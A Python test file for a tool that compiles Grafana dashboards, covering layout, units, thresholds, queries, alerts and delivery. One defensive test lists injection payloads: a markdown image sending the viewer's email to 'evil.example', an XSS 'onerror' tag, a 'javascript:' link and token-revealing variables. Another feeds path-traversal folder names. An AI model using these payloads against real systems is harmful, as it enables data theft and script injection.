"""Dashboards from IR literals: what an operator sees, and what must never happen to it."""

from __future__ import annotations

import json
import re
from collections.abc import Mapping
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from grafana_model import panels, problems
from obsc import conventions, encode
from obsc.catalog import BUILT_IN
from obsc.emit import to_json
from obsc.ir import (
    AlertRule,
    Chart,
    Dashboard,
    Event,
    Field,
    Identity,
    Layer,
    Link,
    Origin,
    Panel,
    Query,
    Recorded,
    Row,
    Service,
    Severity,
    Text,
    Threshold,
    Unit,
    Variable,
)
from obsc.part import DASHBOARD, Part
from obsc.promql import AUTO, Call, Expr, Matcher, Number, aggregate, equal, rate, regex, select
from obsc.spec.platform import AIPlatform
from obsc.targets import _fleet, grafana

ORIGIN = Origin("test")
UP = select("up", equal("job", "chat"))
REQUESTS = rate(select("requests_total", equal("job", "chat")), AUTO)


def panel(key: str, chart: Chart = Chart.LINES, *, expr: Expr = UP, legend: Text = ("up",), **more: object) -> Panel:
    fields: dict[str, Any] = {
        "key": key, "title": key.title(), "chart": chart, "unit": Unit.COUNT, "queries": (Query(expr, legend),),
        "description": f"What {key} says.", "origin": ORIGIN} | more
    return Panel(**fields)


def row(key: str, *inner: Panel, folded: bool = False) -> Row:
    return Row(key, key.title(), Layer.APPLICATION, inner, folded)


def page(*rows: Row, **more: object) -> Dashboard:
    fields: dict[str, Any] = {
        "uid": "chat-0123456789abcdef", "title": "Chat", "folder": "Team", "description": "", "tags": ("obsc",), "rows": rows,
        "variables": (), "links": (), "origin": ORIGIN} | more
    return Dashboard(**fields)


def platform(**grafana_said: object) -> AIPlatform:
    return AIPlatform.model_validate({"apiVersion": "obsc.dev/v1alpha1", "kind": "AIPlatform", "metadata": {"name": "prod"},
                                      "grafana": grafana_said})


def board(dashboard: Dashboard, **grafana_said: object) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(to_json(grafana.board(dashboard, platform(**grafana_said))))
    assert problems(data) == []
    return data


def only(one: Panel) -> dict[str, Any]:
    found: dict[str, Any] = panels(board(page(row("row", one))))[0]
    return found


def service(dashboard: Dashboard, **more: object) -> Service:
    fields: dict[str, Any] = {
        "identity": Identity("prod", "ai", "chat"), "team": "ml", "description": "", "runtime": "custom", "labels": (),
        "links": (), "static_labels": (), "jobs": (), "recordings": (), "alerts": (), "dashboard": dashboard, "logs": (),
        "traces": None, "routes": ()} | more
    return Service(**fields)


def ids(data: Mapping[str, Any]) -> dict[str, int]:
    return {one["title"]: one["id"] for head in data["panels"] for one in (head, *head.get("panels", ()))}


def test_ids_follow_keys_so_that_a_panel_more_less_or_elsewhere_renumbers_no_other() -> None:
    a, b, c = panel("a"), panel("b"), panel("c")
    before = ids(board(page(row("one", a, b), row("two", c, folded=True))))
    more = ids(board(page(row("zero", panel("z")), row("one", panel("y"), b, a), row("two", panel("x"), c, folded=True))))
    less = ids(board(page(row("two", c))))
    assert {title: more[title] for title in before} == before
    assert less == {title: before[title] for title in less}
    assert len(set(more.values())) == len(more)


@given(st.lists(st.tuples(st.sampled_from(list(Chart)), st.integers(1, 24), st.integers(0, 3), st.booleans()), max_size=25))
@settings(max_examples=60, deadline=None)
def test_panels_fill_lines_from_edge_to_edge_and_never_overlap(wished: list[tuple[Chart, int, int, bool]]) -> None:
    rows: dict[int, list[Panel]] = {}
    for index, (chart, width, place, _) in enumerate(wished):
        rows.setdefault(place, []).append(panel(f"p{index}", chart, width=width))
    data = board(page(*(row(f"r{place}", *inner, folded=place % 2 == 1) for place, inner in sorted(rows.items()))))
    lines: dict[tuple[int, int], list[dict[str, int]]] = {}
    for head in data["panels"]:
        for one in (head, *head.get("panels", ())):
            lines.setdefault((head["id"] if one is not head else 0, one["gridPos"]["y"]), []).append(one["gridPos"])
    for places in lines.values():
        assert sum(one["w"] for one in places) == 24
        assert len({one["h"] for one in places}) == 1


@pytest.mark.parametrize(("wished", "widths"), [
    ((8, 8, 8, 8), [[12, 12], [12, 12]]), ((8, 8), [[12, 12]]), ((4, 4, 4), [[8, 8, 8]]), ((12, 12, 8), [[12, 12], [24]]),
    ((8, 12), [[9, 15]]), ((24,), [[24]]),
])
def test_lines_are_balanced_and_share_what_is_left_over(wished: tuple[int, ...], widths: list[list[int]]) -> None:
    data = board(page(row("r", *(panel(f"p{index}", width=width) for index, width in enumerate(wished)))))
    lines: dict[int, list[int]] = {}
    for one in panels(data):
        lines.setdefault(one["gridPos"]["y"], []).append(one["gridPos"]["w"])
    assert list(lines.values()) == widths


def test_reading_order_is_the_order_of_the_page() -> None:
    data = board(page(row("one", *(panel(name, width=9) for name in "abcde"))))
    shown = sorted(panels(data), key=lambda one: (one["gridPos"]["y"], one["gridPos"]["x"]))
    assert [one["title"] for one in shown] == list("ABCDE")


def test_a_folded_row_holds_its_panels_and_an_open_one_is_followed_by_them() -> None:
    data = board(page(row("open", panel("a")), row("folded", panel("b"), folded=True), row("last", panel("c"))))
    assert [(one["title"], len(one.get("panels", ()))) for one in data["panels"]] == [
        ("Open", 0), ("A", 0), ("Folded", 1), ("Last", 0), ("C", 0)]
    assert [one["gridPos"] for one in data["panels"] if one["type"] == "row"] == [
        {"h": 1, "w": 24, "x": 0, "y": y} for y in (0, 9, 10)]


@pytest.mark.parametrize(("unit", "written"), [
    (Unit.RATIO, "percentunit"), (Unit.SECONDS, "s"), (Unit.BYTES, "bytes"), (Unit.COUNT, "short"), (Unit.CORES, "short"),
    (Unit.CELSIUS, "celsius"), (Unit.WATTS, "watt"), (Unit.REQUESTS_PER_SECOND, "reqps"),
    (Unit.TOKENS_PER_SECOND, "count:tok/s"), (Unit.EVENTS_PER_SECOND, "count:/s"), (Unit.BOOL, "bool_yes_no"),
])
def test_units_are_grafanas(unit: Unit, written: str) -> None:
    assert only(panel("a", unit=unit))["fieldConfig"]["defaults"]["unit"] == written


def test_every_unit_has_a_spelling() -> None:
    for unit in Unit:
        assert only(panel("a", unit=unit))["fieldConfig"]["defaults"]["unit"]


WARNING, CRITICAL = Severity.WARNING, Severity.CRITICAL


@pytest.mark.parametrize(("marks", "steps"), [
    ((), [(None, "green")]),
    ((Threshold(0.01, WARNING), Threshold(0.05, CRITICAL)), [(None, "green"), (0.01, "orange"), (0.05, "red")]),
    ((Threshold(0.05, CRITICAL), Threshold(0.01, WARNING)), [(None, "green"), (0.01, "orange"), (0.05, "red")]),
    ((Threshold(1, CRITICAL, above=False),), [(None, "red"), (1, "green")]),
    ((Threshold(0.8, WARNING, above=False), Threshold(0.5, CRITICAL, above=False)),
     [(None, "red"), (0.5, "orange"), (0.8, "green")]),
    ((Threshold(0.2, WARNING, above=False), Threshold(0.9, CRITICAL)), [(None, "orange"), (0.2, "green"), (0.9, "red")]),
    ((Threshold(5, CRITICAL), Threshold(5, WARNING)), [(None, "green"), (5, "red")]),
])
def test_thresholds_are_colours_from_the_bottom_up(marks: tuple[Threshold, ...], steps: list[tuple[float | None, str]]) -> None:
    found = only(panel("a", thresholds=marks))["fieldConfig"]["defaults"]
    assert [(step["value"], step["color"]) for step in found["thresholds"]["steps"]] == steps
    assert found["custom"]["thresholdsStyle"]["mode"] == ("line" if marks else "off")


def test_a_number_without_a_threshold_has_no_colour_of_good_or_bad() -> None:
    assert only(panel("a", Chart.NUMBER))["options"]["colorMode"] == "none"
    assert only(panel("a", Chart.NUMBER, thresholds=(Threshold(1, WARNING),)))["options"]["colorMode"] == "value"


def test_the_classic_latency_panel() -> None:
    quantile = Call("histogram_quantile", (Number(0.95), aggregate("sum", rate(select("x_bucket"), AUTO), "le")))
    found = only(panel("latency", expr=quantile, legend=("P95", " Latency"), unit=Unit.SECONDS, title="Inference Latency"))
    assert (found["type"], found["title"], found["fieldConfig"]["defaults"]["unit"]) == ("timeseries", "Inference Latency", "s")
    target = found["targets"][0]
    assert target["legendFormat"] == "P95 Latency"
    assert target["expr"] == "histogram_quantile(0.95, sum by (le) (rate(x_bucket[$__rate_interval])))"
    assert (target["range"], target["refId"]) == (True, "A")
    assert "instant" not in target


def test_the_classic_gpu_panel() -> None:
    found = only(panel("gpu", Chart.BARS, expr=select("gpu_utilization"), legend=(Field(label="gpu_id"),), unit=Unit.RATIO,
                       title="GPU Utilization", minimum=0, maximum=1))
    assert (found["type"], found["title"]) == ("bargauge", "GPU Utilization")
    assert found["targets"][0]["legendFormat"] == "{{gpu_id}}"
    assert found["targets"][0]["instant"] is True
    assert found["options"]["reduceOptions"] == {"calcs": ["lastNotNull"], "fields": "", "values": False}
    assert (found["fieldConfig"]["defaults"]["min"], found["fieldConfig"]["defaults"]["max"]) == (0, 1)


def test_a_heat_map_draws_the_buckets_as_they_are() -> None:
    found = only(panel("heat", Chart.HEAT, expr=rate(select("x_bucket"), AUTO), legend=(Field(label="le"),), unit=Unit.SECONDS))
    assert (found["type"], found["targets"][0]["format"], found["options"]["calculate"]) == ("heatmap", "heatmap", False)
    assert found["options"]["yAxis"]["unit"] == "s"


def test_several_series_have_a_table_for_a_legend_and_one_has_none() -> None:
    assert only(panel("a", legend=(Field(label="pod"),)))["options"]["legend"]["calcs"] == ["lastNotNull", "max"]
    assert only(panel("a"))["options"]["legend"]["displayMode"] == "list"


def test_more_queries_than_letters_still_have_names_of_their_own() -> None:
    queries = tuple(Query(UP, (str(number),)) for number in range(30))
    found = only(replace(panel("a"), queries=queries))
    assert [one["refId"] for one in found["targets"]][24:28] == ["Y", "Z", "AA", "AB"]


def test_a_query_may_have_a_unit_of_its_own() -> None:
    queries = (Query(UP, ("a",)), Query(UP, ("b",), Unit.BYTES))
    assert only(replace(panel("a"), queries=queries))["fieldConfig"]["overrides"] == [
        {"matcher": {"id": "byFrameRefID", "options": "B"}, "properties": [{"id": "unit", "value": "bytes"}]}]


def test_where_there_is_nothing_it_says_what_that_means() -> None:
    found = only(panel("a", Chart.NUMBER, empty="No traffic"))["fieldConfig"]["defaults"]
    assert found["noValue"] == "No traffic"
    assert found["mappings"][0]["options"] == {"match": "nan", "result": {"text": "No traffic", "index": 0}}


def test_a_table_has_a_column_for_each_query_and_opens_pages_by_their_uid() -> None:
    table = Panel("t", "T", Chart.TABLE, Unit.COUNT, (
        Query(UP, ("Up",), Unit.RATIO, (Threshold(1, CRITICAL, above=False),)), Query(UP, ("Alerts",))), "Text.", ORIGIN,
        labels=(("service", "Service"), ("dashboard", "Page")), opens="dashboard")
    found = only(table)
    assert [one["format"] for one in found["targets"]] == ["table", "table"]
    assert found["transformations"][1]["options"]["renameByName"] == {
        "service": "Service", "dashboard": "Page", "Value #A": "Up", "Value #B": "Alerts"}
    up, opens = found["fieldConfig"]["overrides"]
    assert [one["id"] for one in up["properties"]] == ["unit", "thresholds", "custom.cellOptions"]
    assert opens["matcher"] == {"id": "byName", "options": "Page"}
    assert opens["properties"][1]["value"][0]["url"] == "/d/${__value.raw}"


@pytest.mark.parametrize(("path", "wrong"), [
    (("uid",), "a" * 41), (("editable",), True), (("schemaVersion",), 12), (("id",), 7), (("panels", 1, "id"), 0),
    (("panels", 1, "description"), ""), (("panels", 1, "datasource"), "prometheus"), (("panels", 1, "gridPos", "w"), 25),
    (("panels", 1, "gridPos", "y"), 0), (("panels", 1, "fieldConfig", "defaults", "unit"), "furlong"),
    (("panels", 1, "fieldConfig", "defaults", "thresholds", "steps", 0, "value"), "null"),
    (("panels", 1, "targets", 0, "expr"), "rate(x[5m])"), (("panels", 1, "targets", 0, "step"), 10),
    (("panels", 1, "title"), "of $name"), (("templating", "list", 1, "refresh"), 1),
    (("templating", "list", 1, "allValue"), None), (("templating", "list", 0, "label"), "Source"),
])
def test_the_checker_of_these_tests_sees_what_is_wrong(path: tuple[str | int, ...], wrong: object) -> None:
    data = board(page(row("r", panel("a"), panel("b")), variables=(Variable("namespace", "N", UP, "namespace"),)))
    place: Any = data
    for step in path[:-1]:
        place = place[step]
    place[path[-1]] = wrong
    assert problems(data)


ATTACKS = ("$datasource", "${datasource}", "${__user.token}", "[[namespace]]", "$__range", "{{ .Secret }}", "a\u202eb",
           "![x](https://evil.example/?${__user.email})", "<img src=x onerror=alert(1)>", "[click](javascript:alert(1))")


@pytest.mark.parametrize("text", ATTACKS)
def test_no_text_of_a_spec_is_interpolated_or_rendered(text: str) -> None:
    one = panel("a", title=text, description=text, legend=(text, Field(label="pod")), empty=text, links=((text, "https://x/?a=$b"),))
    dashboard = page(replace(row("row", one), title=text), title=text, description=text, tags=(text,), links=((text, "https://x/$y"),),
                     variables=(Variable("namespace", text, UP, "namespace"),), events=(Event(text, UP, (text,), WARNING),))
    data = board(dashboard)
    shown = json.loads(json.dumps(data))
    for each in panels(shown):
        for target in each["targets"]:
            del target["expr"], target["datasource"]
        del each["datasource"]
    for each in shown["templating"]["list"]:
        for key in ("datasource", "query", "definition", "current"):
            each.pop(key, None)
    for each in shown["annotations"]["list"]:
        del each["datasource"], each["target"]
    written = json.dumps(shown, ensure_ascii=False)
    assert re.findall(r"\$|\[\[|\u202e", written) == []
    legend = panels(data)[0]["targets"][0]["legendFormat"]
    assert re.findall(r"\{\{(.*?)\}\}", legend) == ["pod"]
    description = panels(data)[0]["description"]
    assert "<" not in description
    assert "[" not in description


@given(st.text(max_size=40))
@settings(max_examples=200, deadline=None)
def test_any_text_keeps_the_page_whole(text: str) -> None:
    data = grafana.board(page(row("r", panel("a", title=text or "x", description=text or "x")), title=text), platform())
    assert [one for one in problems(json.loads(to_json(data))) if "no title" not in one] == []


@pytest.mark.parametrize("folder", ["../../etc", "/etc/cron.d", "..", ".", "a\\..\\b", "${x}"])
def test_a_folders_name_leads_nowhere_else(folder: str) -> None:
    written = encode.grafana_folder(folder)
    assert not set(written) & set("/\\$")
    assert not written.startswith(".")
    assert encode.grafana_folder("AI services") == "AI services"


def test_what_all_means_is_no_more_than_the_source_allows() -> None:
    namespace = Variable("namespace", "Namespace", select("up", equal("namespace", "ai.prod")), "namespace")
    sites = Variable("site", "Site", select("up", regex("site", "eu|us")), "site")
    model = Variable("model", "Model", select("requests_total", equal("namespace", "ai.prod"), equal("job", "chat")), "model")
    listed = board(page(row("r", panel("a")), variables=(namespace, sites, model)))["templating"]["list"][1:]
    assert [one["allValue"] for one in listed] == [r"ai\.prod", "eu|us", ".+"]
    assert listed[2]["definition"] == 'label_values(requests_total{job="chat",namespace=~"$namespace"}, model)'
    assert listed[0]["definition"] == 'label_values(up{namespace="ai.prod"}, namespace)'


def test_panels_follow_the_viewers_choice() -> None:
    expr = aggregate("sum", select("up", Matcher("namespace", "=~", "namespace", variable=True)))
    assert only(panel("a", expr=expr))["targets"][0]["expr"] == 'sum(up{namespace=~"$namespace"})'


def test_the_data_source_is_a_choice_and_the_platforms_is_chosen() -> None:
    first = board(page(row("r", panel("a"))), datasources={"prometheus": "mimir"})["templating"]["list"][0]
    assert first["current"] == {"text": "mimir", "value": "mimir", "selected": False}
    assert "current" not in board(page(row("r", panel("a"))))["templating"]["list"][0]


@pytest.mark.parametrize(("version", "schema"), [("13.1.3", 42), ("12.2.0", 42), ("12.1.9", 41), ("11.6.0", 41), ("11.5.2", 39)])
def test_the_schema_is_that_of_the_platforms_release(version: str, schema: int) -> None:
    data = board(page(row("r", panel("a"))), version=version)
    assert (data["schemaVersion"], panels(data)[0]["pluginVersion"]) == (schema, version)


def test_rates_span_four_samples_of_the_slowest_scrape_whatever_the_data_source_says() -> None:
    data = board(page(row("r", panel("a", expr=REQUESTS)), interval=60))
    assert panels(data)[0]["targets"][0]["interval"] == "1m"
    assert "interval" not in panels(board(page(row("r", panel("a", expr=REQUESTS)))))[0]["targets"][0]


def test_a_timed_event_stands_at_the_moment_that_its_sample_says() -> None:
    started = Event("Pod starts", select("kube_pod_start_time"), (Field(label="pod"), " started"), Severity.INFO, timed=True)
    event = board(page(row("r", panel("a")), events=(started,)))["annotations"]["list"][0]
    assert (event["target"]["expr"], event["useValueForTime"]) == ("kube_pod_start_time * 1000", True)
    assert (event["titleFormat"], event["iconColor"]) == ("{{pod}} started", "blue")


def rule(name: str, key: str) -> AlertRule:
    return AlertRule(name, UP, 60, 0, WARNING, "errors", "errors", (), (), "", (), (), key, ORIGIN)


def compiled(delivery: str, **more: object) -> dict[str, Any]:
    dashboard = page(row("r", panel("errors"), panel("other")), folder="../ML team")
    found = grafana.compile_(service(dashboard, **more), platform(delivery=delivery))
    return {one.path: one.data for one in found}


def test_a_services_page_shows_its_alerts_their_runbooks_and_the_way_to_other_pages() -> None:
    data = compiled("files", alerts=(rule("HighErrorRate", "errors"), rule("ElevatedErrorRate", "errors")),
                    links=(Link("runbooks", "https://wiki.example.com/rb"),))["prod/artifacts/ai/chat/dashboard.json"]
    assert problems(data) == []
    event = data["annotations"]["list"][0]
    assert event["target"]["expr"] == 'ALERTS{alertstate="firing",namespace="ai",service="chat"}'
    assert event["titleFormat"] == "{{alertname}} ({{severity}})"
    links = {one["title"]: [link["title"] for link in one.get("links", ())] for one in panels(data)}
    assert links == {"Errors": ["ElevatedErrorRate", "HighErrorRate"], "Other": []}
    home, others = data["links"]
    assert home["url"] == conventions.page(_fleet.dashboard("prod").uid)
    assert (others["type"], others["tags"]) == ("dashboards", ["obsc", "ml"])
    assert (others["includeVars"], others["keepTime"]) == (False, True)


def test_files_have_only_the_artifact_and_the_sidecar_gets_a_config_map() -> None:
    assert list(compiled("files")) == ["prod/artifacts/ai/chat/dashboard.json"]
    found = compiled("sidecar", labels=(("grafana_dashboard", "0"),))
    data, object_ = found["prod/artifacts/ai/chat/dashboard.json"], found["prod/manifests/ai/chat/dashboard.yaml"]
    metadata = object_["metadata"]
    assert (metadata["namespace"], metadata["labels"]["grafana_dashboard"]) == ("ai", "1")
    assert metadata["annotations"] == {
        "argocd.argoproj.io/sync-options": "ServerSideApply=true", "grafana_folder": "-ML team",
        "kustomize.toolkit.fluxcd.io/substitute": "disabled"}
    assert {name: json.loads(text) for name, text in object_["data"].items()} == {"chat-0123456789abcdef.json": data}


def part(name: str, text: str | None = "{}") -> Part:
    files = ((DASHBOARD, text),) if text is not None else ()
    return Part(Identity("prod", "ai", name), "ml", (), (), (f"{name}-uid", name, "Team"), None, (), files)


def linked(*parts: Part, delivery: str = "files") -> dict[str, Any]:
    return {one.path.rpartition("/")[2]: one.data for one in grafana.link("prod", parts, platform(delivery=delivery), BUILT_IN)}


def test_shards_hold_every_page_once_and_one_services_growth_moves_no_other() -> None:
    data = compiled("files")["prod/artifacts/ai/chat/dashboard.json"]
    parts = [part(f"s{number}", to_json(data)) for number in range(20)]
    before, after = linked(*parts), linked(*parts, part("new", to_json(data)))
    shards = [one for name, one in before.items() if name.startswith("grafana-dashboards-")]
    files = [name for shard in shards for name in shard["data"]]
    assert sorted(files) == sorted([*(f"s{number}-uid.json" for number in range(20)), f"{_fleet.dashboard('prod').uid}.json"])
    assert sum(before[name] != after[name] for name in before) == 1
    assert all(json.loads(text) == data for shard in shards for name, text in shard["data"].items() if name.startswith("s"))


def test_a_change_of_one_panel_is_one_line_of_a_shard() -> None:
    one, other = (encode.json_by_line(grafana.board(page(row("r", panel("a"), panel("b", title=title))), platform()))
                  for title in ("B", "C"))
    changed = [left for left, right in zip(one.splitlines(), other.splitlines(), strict=True) if left != right]
    assert len(changed) == 1
    assert "\n\n" not in one


def test_a_page_that_is_none_links_as_it_is() -> None:
    files = {name: text for shard in range(4) for name, text in
             linked(part("a", "<<<<<<< HEAD"), part("b", None))[f"grafana-dashboards-{shard}.yaml"]["data"].items()}
    assert files["a-uid.json"] == "<<<<<<< HEAD"
    assert "b-uid.json" not in files


def test_the_fleets_page_names_no_service_so_that_a_new_one_changes_nothing_in_it() -> None:
    few, many = linked(part("a")), linked(part("a"), part("b"))
    assert few["dashboard.json"] == many["dashboard.json"]
    assert problems(few["dashboard.json"]) == []
    assert [one["title"] for one in panels(few["dashboard.json"])][-1] == "Services"


def test_the_fleets_page_reaches_the_sidecar_too() -> None:
    found = linked(part("a"), delivery="sidecar")
    assert set(found) == {"dashboard.json", "grafana-fleet.yaml"}
    metadata = found["grafana-fleet.yaml"]["metadata"]
    assert (metadata["namespace"], metadata["labels"]["grafana_dashboard"]) == ("observability", "1")
    assert metadata["annotations"]["grafana_folder"] == "AI services"


def test_provisioning_reads_where_the_shards_are_mounted() -> None:
    text = linked()["grafana-provisioning.yaml"]["data"]["obsc.yaml"]
    assert f"path: {conventions.GRAFANA_FOLDER}" in text
    assert "allowUiUpdates: false" in text


def test_same_input_same_bytes() -> None:
    dashboard = page(row("r", panel("a"), panel("b", Chart.BARS)), variables=(Variable("namespace", "N", UP, "namespace"),))
    assert to_json(grafana.board(dashboard, platform())) == to_json(grafana.board(dashboard, platform()))


def test_recorded_names_are_those_of_the_fleet() -> None:
    text = json.dumps(linked()["dashboard.json"])
    assert all(name.value in text for name in Recorded if name is not Recorded.MODEL)
